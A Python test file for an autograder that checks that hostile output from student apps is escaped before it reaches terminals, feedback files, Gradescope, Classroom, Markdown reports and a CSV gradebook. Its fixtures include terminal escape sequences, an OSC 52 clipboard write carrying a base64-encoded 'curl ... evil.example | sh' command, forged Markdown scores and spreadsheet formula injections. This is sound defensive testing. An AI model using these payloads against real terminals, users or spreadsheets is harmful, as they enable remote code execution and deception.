"""What grading shows to people holds whatever the student's app answered: no control
character reaches a terminal, a feedback file, Gradescope or GitHub Classroom; a message
cannot close its Markdown code block; the words of a message cannot make a check "timed
out"; and a student's folder name cannot break the class's files or become a formula."""

from __future__ import annotations

import csv
import io
import json
import re
import shutil

from markdown_it import MarkdownIt
from rich.console import Console

from autograder.checks import CheckInfo
from autograder.course import find_lab
from autograder.events import MAX_MESSAGE_CHARS
from autograder.instructor import classroom
from autograder.instructor.class_summary import markdown as summary_markdown
from autograder.instructor.feedback import (
    GRADED,
    NOT_GRADED,
    TIMED_OUT,
    code_block,
    display_name,
    file_stem,
    markdown_report,
    record,
    status_of,
)
from autograder.instructor.gradebook import gradebook_rows, write_gradebook
from autograder.printable import printable
from autograder.report import render
from autograder.results import CheckResult, GradeResult
from tests.screen import printed

LAB = find_lab(1)
CLIPBOARD = "\x1b]52;c;Y3VybCAtcyBldmlsLmV4YW1wbGV8c2gK\x1b\\"  # OSC 52: a clipboard write
HOSTILE = (
    "\x1b[1A\x1b[2K"  # cursor up, erase the line
    + CLIPBOARD
    + "\x1b]0;all checks pass\x07"  # the window title, ended by BEL
    + "\r\x9b31m\u202etxt.exe"  # a carriage return, a C1 CSI, a right-to-left override
    + "did not answer within 1 s"
    + "\n```\n\n**Score: 100/100**\n\n<!--"
)
FORGED_SCORE = "Score: 100/100"
# Every control character a report may not carry: C0 but newline and tab, DEL, C1.
CONTROL = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e]")
INJECTED_ROUTE = """    if species == "rose":
        from fastapi.responses import PlainTextResponse

        return PlainTextResponse(HOSTILE, status_code=400)
"""


def check(name: str, points: float = 5) -> CheckInfo:
    return CheckInfo(f"suite.py::test_{name}", name, f"{name} works.", points, f"Fix {name}.")


def hostile_result(tmp_path) -> GradeResult:
    result = GradeResult(lab="01-hello-api", submission=str(tmp_path), execution_time=0.5)
    result.results = [
        CheckResult(check("root answers"), True),
        CheckResult(check("unknown species gives an empty list", 3), False, HOSTILE),
    ]
    result.notes += [f"a note from the app {CLIPBOARD}"]
    return result


def without_controls(text: str) -> bool:
    return CONTROL.search(text) is None


# ---------------------------------------------------------------- control characters


def test_printable_writes_control_characters_as_escapes():
    assert printable("a\x1b[2Kb\x07\r\x9b\x7f\u202e") == r"a\x1b[2Kb\x07\x0d\x9b\x7f\u202e"
    assert printable("lines\n\tand tabs stay") == "lines\n\tand tabs stay"
    assert printable("one\nline\t", one_line=True) == r"one\x0aline\x09"
    assert printable(printable(HOSTILE)) == printable(HOSTILE)  # once is enough
    assert printable("été, 😀, naïve") == "été, 😀, naïve"


def test_a_results_text_is_printable_and_capped_however_it_is_set(tmp_path):
    result = hostile_result(tmp_path)
    result.problem = "main.py: " + HOSTILE
    assert all(without_controls(text) for text in [result.problem, *result.notes])
    assert without_controls(result.results[1].message)
    assert r"\x1b]52;c;" in result.results[1].message  # the student still sees what was sent
    long = CheckResult(check("long"), False, "x" * 50_000)
    assert len(long.message) <= MAX_MESSAGE_CHARS + len("...")


def test_the_terminal_report_carries_no_escape_sequence(tmp_path):
    (tmp_path / "main.py").write_text(f"# TODO 1: {CLIPBOARD} do it\n")
    for verbose in (False, True):
        text = "\n".join(printed(hostile_result(tmp_path), verbose=verbose))
        assert without_controls(text), repr(text)
        assert r"\x1b]52;c;" in text and "did not answer within" in text
    # In a colour terminal the report's own styles are escapes; the app's never are.
    stream = io.StringIO()
    console = Console(file=stream, width=100, force_terminal=True, color_system="truecolor")
    render(hostile_result(tmp_path), title="Lab 01", console=console, verbose=True)
    shown = stream.getvalue()
    assert "\x1b]" not in shown and "\x1b[1A" not in shown and "\x1b[2K" not in shown
    assert "\x07" not in shown and "\r" not in shown and "\x9b" not in shown


def test_gradescope_and_classroom_carry_no_control_character(tmp_path):
    result = hostile_result(tmp_path)
    document = result.to_gradescope()
    texts = [test["output"] for test in document["tests"]] + [document["output"]]
    assert all(without_controls(text) for text in texts), texts
    assert r"\x1b]52;c;" in document["tests"][1]["output"]
    payload = classroom.payload(result)
    assert all(without_controls(test["message"]) for test in payload["tests"])
    assert r"\x1b]52;c;" in payload["tests"][1]["message"]


# ---------------------------------------------------------------- Markdown


def rendered_outside_code(markdown: str) -> tuple[list, str]:
    """The tokens of a CommonMark parse, and all text that is not inside a code block."""
    tokens = MarkdownIt("commonmark").parse(markdown)
    outside = []
    for token in tokens:
        if token.type in ("fence", "code_block"):
            continue
        outside.append(token.content)
        outside += [child.content for child in token.children or []]
    return tokens, "\n".join(outside)


def test_a_message_cannot_leave_its_code_block(tmp_path):
    text = markdown_report("mallory", hostile_result(tmp_path), "Lab 01 · Hello, API")
    assert without_controls(text)
    tokens, outside = rendered_outside_code(text)
    fences = [token for token in tokens if token.type == "fence"]
    (fence,) = fences
    assert FORGED_SCORE in fence.content and "<!--" in fence.content
    assert FORGED_SCORE not in outside
    assert not [token for token in tokens if token.type in ("html_block", "html_inline")]
    assert "Fix unknown species gives an empty list." in outside  # the hint after it shows
    assert "Score: 5/8" in outside


def test_the_fence_is_longer_than_any_backtick_run_inside():
    for message in ("plain", "```", "a ```` b", "`" * 9 + "\n```"):
        fence, body, closing = code_block(message)
        assert fence == closing and set(fence) == {"`"} and len(fence) >= 3
        assert all(len(run) < len(fence) for run in re.findall("`+", body))
        (token,) = MarkdownIt("commonmark").parse("\n".join([fence, body, closing]))
        assert token.type == "fence" and token.content == body + "\n"


def test_a_students_name_cannot_inject_markdown(tmp_path):
    names = ["<!-- *x* [a](http://e.example) `c` #", "- item", "1. item", "carol\nalice"]
    for name in names:
        text = markdown_report(name, hostile_result(tmp_path), "Lab 01")
        tokens, _ = rendered_outside_code(text)
        assert tokens[0].type == "heading_open" and tokens[2].type == "heading_close"
        (heading,) = [t for t in tokens[1].children if t.type != "softbreak"]
        assert heading.type == "text" and heading.content == "Lab 01: " + display_name(name)
    records = [
        {"student": name, "status": NOT_GRADED, "reason": "main.py: <!-- x", "score": 0}
        for name in names
    ]
    for record_ in records:
        record_["max_score"] = 8
    summary = summary_markdown("Lab 01", records, [], None)
    tokens, outside = rendered_outside_code(summary)
    assert not [token for token in tokens if token.type in ("html_block", "html_inline")]
    items = [token for token in tokens if token.type == "list_item_open"]
    assert len(items) == len(names), "each student is one item of one list"
    assert all(display_name(name) in outside for name in names)


# ---------------------------------------------------------------- the status


def test_words_in_a_message_never_make_a_check_timed_out(tmp_path):
    result = hostile_result(tmp_path)
    result.results.append(CheckResult(check("slow"), False, "timed out after 2 s"))
    result.results.append(CheckResult(check("says"), False, "did not finish within 9 s"))
    assert status_of(result) == (GRADED, "")
    result.results.append(CheckResult(check("hung"), False, "GET / answered 500", True))
    assert status_of(result) == (TIMED_OUT, "ran past its time limit: hung")
    result.problem = "main.py: RuntimeError: importing main.py did not finish within 30 s"
    assert status_of(result)[0] == NOT_GRADED
    result.import_timed_out = True
    assert status_of(result)[0] == TIMED_OUT


def test_a_graded_hostile_app_is_shown_as_written_and_graded(grader_for, tmp_path):
    folder = tmp_path / "mallory"
    shutil.copytree(LAB.solution_dir, folder, ignore=shutil.ignore_patterns("__pycache__"))
    main = (folder / "main.py").read_text()
    marker = "    chosen = [flower for flower in FLOWERS"
    assert marker in main
    main = main.replace(marker, INJECTED_ROUTE + marker)
    (folder / "main.py").write_text(f"HOSTILE = {HOSTILE!r}\n" + main)
    result = grader_for(LAB.number).grade(folder)
    (failed,) = [item for item in result.results if not item.passed]
    assert "unknown species" in failed.check.name and not failed.timed_out
    assert r"\x1b]52;c;" in failed.message and without_controls(failed.message)
    document = record(result, "mallory", submission="0" * 64, suite="0" * 64)
    assert document["status"] == GRADED and document["reason"] == ""
    assert without_controls(json.dumps(document, ensure_ascii=False))
    text = "\n".join(printed(result, verbose=True))
    assert without_controls(text) and r"\x1b]52;c;" in text
    _, outside = rendered_outside_code(markdown_report("mallory", result, "Lab 01"))
    assert FORGED_SCORE not in outside


# ---------------------------------------------------------------- names and the gradebook


def test_plain_names_keep_their_file_names_and_odd_ones_get_safe_ones():
    for name in ("alice", "full-0", "my lab", "josé", "-rf", "=HYPERLINK(1)", "a" * 100):
        assert file_stem(name) == name
    odd = ["caf\udce9", "d" * 250, "carol\nalice", "é" * 60, "x-0123456789", "caf%E9-dafd66c0b9"]
    stems = [file_stem(name) for name in odd]
    assert len(set(stems)) == len(stems), stems
    for name, stem in zip(odd, stems, strict=True):
        assert stem != name and len(stem.encode()) <= 111, stem
        assert printable(stem, one_line=True) == stem and "/" not in stem
    assert stems[0].startswith("caf%E9-") and stems[1].startswith("d" * 90)
    assert display_name("caf\udce9") == r"caf\xe9" and display_name("a\nb") == r"a\x0ab"


def test_the_gradebook_quotes_formulas_and_keeps_numbers(tmp_path):
    records = [
        {"student": '=HYPERLINK("http://e.example","bob")', "status": GRADED, "reason": ""},
        {"student": "+1", "status": NOT_GRADED, "reason": "-oops"},
        {"student": "@sum", "status": GRADED, "reason": "\tx"},
        {"student": "alice", "status": GRADED, "reason": ""},
    ]
    for document in records:
        document.update(score=5.0, max_score=8.0, tests=[{"name": "root", "score": 5.0}])
    path = tmp_path / "grades.csv"
    write_gradebook(path, records, ["root"])
    rows = list(csv.reader(io.StringIO(path.read_text(), newline="")))
    assert [row[0] for row in rows[1:]] == [
        '\'=HYPERLINK("http://e.example","bob")',
        "'+1",
        "'@sum",
        "alice",
    ]
    assert rows[2][4] == "'-oops" and rows[3][4] == "'\tx"
    assert all(row[2:4] == ["5.0", "8.0"] and row[5] == "5.0" for row in rows[1:])


def test_a_student_without_a_record_still_has_a_row(tmp_path):
    rows = gradebook_rows(tmp_path, ["caf\udce9"], 100)
    assert rows == [
        {
            "student": r"caf\xe9",
            "status": NOT_GRADED,
            "reason": rows[0]["reason"],
            "score": 0.0,
            "max_score": 100,
            "tests": [],
        }
    ]
    assert "no feedback record" in rows[0]["reason"]
